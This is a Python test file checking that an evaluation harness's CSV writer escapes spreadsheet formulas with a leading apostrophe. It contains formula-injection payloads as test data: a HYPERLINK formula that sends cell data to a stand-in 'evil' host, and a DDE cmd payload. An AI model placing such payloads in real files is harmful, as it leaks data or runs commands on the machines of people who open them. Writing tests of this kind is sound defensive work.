"""rows.csv never holds a live spreadsheet formula (issue #21, low finding): questions, titles and answers come from
datasets, documents and models, and a cell such as ``=HYPERLINK("https://evil/?d="&A1)`` would run when the file is
opened in a spreadsheet. Such cells get a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

from deepsearcher.eval.harness import EvalRow, write_csv


def test_formula_cells_are_written_as_text(tmp_path: Path) -> None:
    row = EvalRow(id="q1", dataset="d", question_type="t", question='=HYPERLINK("https://evil/?d="&A1,"x")',
                  gold_titles=["+cmd|' /C calc'!A0"], gold_complete=True, gold_answers=["-2+3"],
                  retrieved_titles=["@SUM(1)", "Plain title"], recall={5: 0.5}, answer="Plain answer = fine",
                  em=0.0, f1=-0.0)
    path = tmp_path / "rows.csv"
    write_csv(path, [row], [5])
    [cell] = list(csv.DictReader(path.open(encoding="utf-8")))
    assert cell["question"] == '\'=HYPERLINK("https://evil/?d="&A1,"x")'
    assert cell["gold_titles"] == "'+cmd|' /C calc'!A0" and cell["gold_answers"] == "'-2+3"
    assert cell["retrieved_titles"] == "'@SUM(1) | Plain title"
    assert cell["answer"] == "Plain answer = fine" and cell["recall@5"] == "0.5" and cell["f1"] == "-0.0"
